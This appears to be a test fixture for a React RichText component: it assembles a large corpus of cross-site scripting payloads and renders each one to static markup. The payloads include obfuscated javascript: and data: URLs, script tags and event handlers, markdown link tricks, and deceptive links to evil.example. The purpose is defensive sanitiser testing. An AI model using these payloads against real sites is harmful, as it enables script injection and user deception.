import { renderToStaticMarkup } from 'react-dom/server'
import { RichText } from '../../../src/index.ts'

const script = 'window.pwned=1'
const schemes = [
  `javascript:${script}`, `JaVaScRiPt:${script}`, `java\tscript:${script}`, `java\u0001script:${script}`, `\u0001javascript:${script}`, ` javascript:${script}`,
  `&#106;avascript:${script}`, `&#x6A;&#x61;vascript:${script}`, `&#0000106avascript:${script}`, `javascript&colon;${script}`, `java&Tab;script:${script}`, `java&NewLine;script:${script}`,
  `javascript\u003A${script}`, `javascript\uFF1A${script}`, `\u{1D4BF}avascript:${script}`, `java\u00ADscript:${script}`, `java\u200Bscript:${script}`, `\uFEFFjavascript:${script}`, `\u202Ejavascript:${script}`,
  `javascript://%0a${script}`, `javascript:///%0d%0a${script}//https://example.org`, `javascript:alert(1)//mailto:`, `feed:javascript:${script}`, `view-source:javascript:${script}`, `jar:javascript:${script}`,
  `vbscript:${script}`, `VBScript:${script}`, `livescript:${script}`, `mocha:${script}`, 'data:text/html,<script>window.pwned=1</script>', 'data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=window.pwned=1>', 'blob:https://example.org/1', 'file:///etc/passwd', 'ftp://example.org', 'about:blank', 'ms-msdt:/id', 'intent://x#Intent;end', 'chrome://settings', '//example.org', '/relative', '?q=1', '#top',
  `https:javascript:${script}`, `https:\\\\example.org`, 'https://example.org\\@evil.example', 'https://bank.example@evil.example', 'https://user:password@evil.example', `https://example.org/"onmouseover="${script}`,
  `https://example.org/'onmouseover='${script}`, 'https://example.org/><script>window.pwned=1</script>', `mailto:a@example.org"onclick="${script}`, `mailto:<img src=x onerror=${script}>`, 'http://', 'https://\u0000', 'https://exa\u202Emple.org',
]
const frames: readonly ((scheme: string) => string)[] = [(scheme) => `[click](${scheme})`, (scheme) => `**[_click_](${scheme})** ${scheme}`]

const markup = [
  '<script>window.pwned=1</script>', '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>', '<scr<script>ipt>window.pwned=1</scr</script>ipt>', '<img src=x onerror=window.pwned=1>', '<img src="x` `<script>window.pwned=1</script>"` `>',
  '<svg onload=window.pwned=1>', '<svg/onload=window.pwned=1>', '<svg><script>window.pwned=1</script></svg>', '<svg><animate onbegin=window.pwned=1 attributeName=x></svg>', '<math><mi xlink:href="javascript:window.pwned=1">x</mi></math>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>', '<iframe src=javascript:parent.pwned=1>', '<object data="javascript:window.pwned=1">', '<embed src="javascript:window.pwned=1">', '<base href="javascript:window.pwned=1//">',
  '<meta http-equiv=refresh content="0;url=javascript:window.pwned=1">', '<link rel=stylesheet href="javascript:window.pwned=1">', '<style>@import "javascript:window.pwned=1"</style>', '<style>*{display:none}</style>', '<body onload=window.pwned=1>',
  '<details open ontoggle=window.pwned=1>x</details>', '<video><source onerror=window.pwned=1></video>', '<audio src=x onerror=window.pwned=1>', '<input autofocus onfocus=window.pwned=1>', '<select autofocus onfocus=window.pwned=1>', '<marquee onstart=window.pwned=1>x</marquee>',
  '<form action="javascript:window.pwned=1"><button>x</button></form>', '<button formaction="javascript:window.pwned=1">x</button>', '<a href="javascript:window.pwned=1">x</a>', '<a href=" &#14; javascript:window.pwned=1">x</a>', '<template><script>window.pwned=1</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">', '<textarea></textarea><script>window.pwned=1</script>', '<!--><script>window.pwned=1</script>-->', '<![CDATA[<script>window.pwned=1</script>]]>', '<?xml version="1.0"?><script>window.pwned=1</script>',
  '</p></div><script>window.pwned=1</script>', '"><script>window.pwned=1</script>', "'><img src=x onerror=window.pwned=1>", '\\<script>window.pwned=1\\</script>', '&lt;script&gt;window.pwned=1&lt;/script&gt;', '%3Cscript%3Ewindow.pwned=1%3C/script%3E', '\u003cscript\u003ewindow.pwned=1\u003c/script\u003e',
  '\uFF1Cscript\uFF1Ewindow.pwned=1', '{{constructor.constructor("window.pwned=1")()}}', '${window.pwned=1}',
]
const nested = [
  '```html\n<script>window.pwned=1</script>\n```', '```"><script>window.pwned=1</script>\ncode\n```', '```js" onclick="window.pwned=1\ncode\n```', '`<img src=x onerror=window.pwned=1>`', '> <script>window.pwned=1</script>', '- <img src=x onerror=window.pwned=1>',
  '1. <svg onload=window.pwned=1>', '**<script>**window.pwned=1**</script>**', '[<img src=x onerror=window.pwned=1>](https://example.org)', '[![x](javascript:window.pwned=1)](javascript:window.pwned=1)', '![x](javascript:window.pwned=1)', '![x](x"onerror="window.pwned=1)',
  '[a](https://example.org "onclick=window.pwned=1")', '[a](<javascript:window.pwned=1>)', '[a][b]\n\n[b]: javascript:window.pwned=1', '<javascript:window.pwned=1>', '[a]( javascript:window.pwned=1 )', '[a](java\nscript:window.pwned=1)', '[a](https://x.y)(javascript:window.pwned=1)',
  '[https://bank.example](https://evil.example)', '[\u200Bhttps://bank.example](https://evil.example)', '[\u200B](https://evil.example)', '[[x](javascript:window.pwned=1)](https://example.org)', '[*[x*](javascript:window.pwned=1)', '~~[x](`javascript:window.pwned=1`)~~',
]

/** Texts that do something where a text becomes markup. */
export const xssCorpus: readonly string[] = [...schemes.flatMap((scheme) => frames.map((frame) => frame(scheme))), ...markup, ...nested]

/** How `RichText` shows each of them, as markup. */
export const shownCorpus = (): readonly string[] => xssCorpus.map((text) => renderToStaticMarkup(<RichText text={text} />))
